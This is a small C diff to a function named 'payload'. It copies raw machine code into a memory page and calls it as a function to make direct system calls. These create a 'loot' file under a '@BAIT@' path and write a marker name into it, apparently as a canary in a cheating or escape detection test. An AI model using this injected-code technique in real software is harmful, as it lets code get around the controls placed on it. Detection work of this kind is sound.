@@ -14,5 +14,5 @@ static void payload(int call) {
     memcpy(page, code, sizeof code);
     memcpy(&made, &page, sizeof made);
     long file = made(2, (long)"@BAIT@/loot/made", 0101, 0600);
-    if (file >= 0) made(1, file, (long)"kpdcheat\n", 9);
+    if (file >= 0) made(1, file, (long)"@NAME@\n", 9);
 }
